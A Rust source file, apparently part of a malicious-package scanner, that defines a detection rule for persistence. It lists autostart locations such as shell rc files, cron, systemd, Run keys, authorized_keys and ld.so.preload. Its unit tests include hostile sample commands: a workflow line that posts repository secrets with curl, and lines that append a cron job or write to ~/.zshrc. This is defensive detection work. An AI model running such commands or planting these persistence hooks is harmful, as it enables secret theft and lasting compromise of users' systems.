//! Something is put where it will run again: at log-in, by a clock, with every shell, in
//! another package. It outlives the removal of what put it there.

use super::context::{Context, Findings, when};
use super::{Rule, RuleClass, command};
use crate::event::{Effect, Event, Role, When};
use crate::finding::Severity;

pub(crate) const RULE: Rule = Rule {
    code: "persistence",
    title: "something is made to run again later",
    class: RuleClass::Persistence,
    cwe: Some(506),
    severity: Severity::Critical,
    check,
};

/// Pieces of paths, in lower case with `/`, and what runs them.
const PLACES: &[(&str, &str)] = &[
    (".bashrc", "every shell"),
    (".bash_profile", "every shell"),
    (".bash_login", "every shell"),
    (".zshrc", "every shell"),
    (".zshenv", "every shell"),
    (".zprofile", "every shell"),
    ("/.profile", "every log-in"),
    ("config/fish/config.fish", "every shell"),
    ("microsoft.powershell_profile.ps1", "every shell"),
    ("/etc/profile", "every log-in"),
    ("/etc/ld.so.preload", "every program"),
    ("/etc/rc.local", "every start of the machine"),
    ("/etc/cron", "a clock"),
    ("/var/spool/cron", "a clock"),
    ("systemd/user/", "every log-in"),
    ("systemd/system/", "every start of the machine"),
    ("/etc/init.d/", "every start of the machine"),
    ("launchagents/", "every log-in"),
    ("launchdaemons/", "every start of the machine"),
    (".config/autostart", "every log-in"),
    ("start menu/programs/startup", "every log-in"),
    ("programs/startup", "every log-in"),
    ("currentversion/run", "every log-in"),
    ("currentversion/winlogon", "every log-in"),
    (".ssh/authorized_keys", "whoever has the key"),
    ("sitecustomize.py", "every start of Python"),
    ("usercustomize.py", "every start of Python"),
    ("discord_desktop_core", "every start of Discord"),
];

/// Places that tools for developers write for honest reasons.
const HOOKS: &[(&str, &str)] = &[
    (".git/hooks", "every commit"),
    (".vscode/tasks.json", "the editor"),
    (".git/config", "git"),
];

fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
    for event in context.of(&[Effect::FileWrite, Effect::FilePermission, Effect::Shell, Effect::Spawn]) {
        if let Some(severity) = workflow(event) {
            let message = format!("something is made to be run by a service that builds a repository, {}", when(event.when));
            findings.add(severity, event.place, message);
            continue;
        }
        let Some((by, is_hook)) = runs_later(event) else { continue };
        let severity = match (is_hook, event.when) {
            (true, _) => Severity::Medium,
            (false, When::Call) => Severity::High,
            (false, When::Load | When::Install) => Severity::Critical,
        };
        findings.add(severity, event.place, format!("something is made to be run by {by}, {}", when(event.when)));
    }
}

/// A file by which a service runs commands for a repository, with the secrets of its owner.
/// A tool that makes a new project writes one when it is called.
fn workflow(event: &Event) -> Option<Severity> {
    let paths = [Role::Path, Role::Target].iter().flat_map(|role| event.arguments_of(*role));
    let is_workflow = event.effect == Effect::FileWrite
        && paths.into_iter().any(|path| {
            let path = path.sketch().replace('\\', "/").to_ascii_lowercase();
            path.contains(".github/workflows/") && path.ends_with(['l', '\u{2026}'])
        });
    let takes_secrets = event
        .arguments_of(Role::Data)
        .any(|data| data.pieces().iter().any(|piece| piece.contains("secrets")));
    let severity = match (event.when, takes_secrets) {
        (When::Install | When::Load, true) => Severity::Critical,
        (When::Install, false) => Severity::High,
        (When::Load, false) => Severity::Medium,
        (When::Call, _) => Severity::Low,
    };
    is_workflow.then_some(severity)
}

/// A `.pth` file with code: Python runs its lines that begin with `import`. Models of
/// neural networks have the same ending, and are not text.
fn writes_start_of_python(event: &Event) -> bool {
    let ends = |path: &crate::Value| path.pieces().last().is_some_and(|piece| piece.ends_with(".pth"));
    let imports = |data: &crate::Value| {
        data.pieces().iter().any(|piece| piece.lines().any(|line| line.starts_with("import ")))
    };
    let paths = [Role::Path, Role::Target].iter().flat_map(|role| event.arguments_of(*role));
    paths.into_iter().any(ends) && event.arguments_of(Role::Data).any(imports)
}

fn runs_later(event: &Event) -> Option<(&'static str, bool)> {
    let by_path = |path: &str| {
        let path = path.replace('\\', "/").replace("//", "/").to_ascii_lowercase();
        let find = |table: &'static [(&'static str, &'static str)]| {
            table.iter().find(|(piece, _)| path.contains(piece)).map(|(_, by)| *by)
        };
        find(PLACES).map(|by| (by, false)).or_else(|| find(HOOKS).map(|by| (by, true)))
    };
    if event.effect == Effect::FileWrite && writes_start_of_python(event) {
        return Some(("every start of Python", false));
    }
    if matches!(event.effect, Effect::FileWrite | Effect::FilePermission) {
        let roles = [Role::Path, Role::Target, Role::Name];
        return roles
            .iter()
            .flat_map(|role| event.arguments_of(*role))
            .find_map(|value| by_path(&value.sketch()));
    }
    let line = command::line(event);
    // What stands behind `>` is written; what is only named is not.
    let redirected = line.split('>').skip(1).filter_map(|rest| rest.split_whitespace().next());
    let redirected = redirected.map(str::to_owned);
    let commands = command::commands(event);
    commands
        .iter()
        .find_map(|one| match one.program().as_str() {
            "crontab" if !one.has("-l") && !one.has("-r") => Some(("a clock", false)),
            "schtasks" if one.arguments().iter().any(|w| w.eq_ignore_ascii_case("/create")) => {
                Some(("a clock", false))
            }
            "reg" | "reg.exe" if one.arguments().first().is_some_and(|w| w.eq_ignore_ascii_case("add")) => {
                one.arguments().iter().find_map(|word| by_path(word))
            }
            "tee" | "cp" | "mv" | "ln" | "install" => {
                one.words.last().and_then(|word| by_path(word))
            }
            "systemctl" if one.has("enable") => Some(("every start of the machine", false)),
            "launchctl" if one.has("load") || one.has("bootstrap") => Some(("every log-in", false)),
            _ => None,
        })
        .or_else(|| redirected.into_iter().find_map(|word| by_path(&word)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::made::{Made, partial, text};

    #[test]
    fn places_that_run_again_are_found_by_call_and_by_command() {
        let write = |path| Made::new().event(Effect::FileWrite, "node:fs.appendFile", &[(Role::Path, path)]);
        assert_eq!(write(partial("", &["/.bashrc"])).found(RULE.code), [Severity::High]);
        let startup = text("C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat");
        assert_eq!(write(startup).when(When::Load).found(RULE.code), [Severity::Critical]);
        assert_eq!(write(text(".git/hooks/pre-commit")).found(RULE.code), [Severity::Medium]);
        assert!(write(text("dist/profile.js")).found(RULE.code).is_empty());
        let run = |line| Made::new().event(Effect::Shell, "py:os.system", &[(Role::Command, text(line))]).found(RULE.code);
        assert_eq!(run("(crontab -l; echo '* * * * * x') | crontab -"), [Severity::High]);
        assert_eq!(run("echo x >> ~/.zshrc"), [Severity::High]);
        assert!(run("crontab -l").is_empty());
        assert!(run("cat ~/.zshrc").is_empty());
        let workflow = |data: &str| {
            let path = (Role::Path, text(".github/workflows/a.yml"));
            let made = Made::new().event(Effect::FileWrite, "node:fs.writeFile", &[path, (Role::Data, text(data))]);
            made.when(When::Load).found(RULE.code)
        };
        assert_eq!(workflow("run: curl -d ${{ toJSON(secrets) }} x"), [Severity::Critical]);
        assert_eq!(workflow("run: npm test"), [Severity::Medium]);
        assert!(run("ls /etc/init.d/ 2>/dev/null").is_empty());
        let paths = |data| {
            let given = [(Role::Path, partial("", &["/a.pth"])), (Role::Data, text(data))];
            Made::new().event(Effect::FileWrite, "py:builtins.open.write", &given).found(RULE.code)
        };
        assert_eq!(paths("import os; os.getpid()"), [Severity::High]);
        assert!(paths("/usr/lib/python\n").is_empty());
    }
}
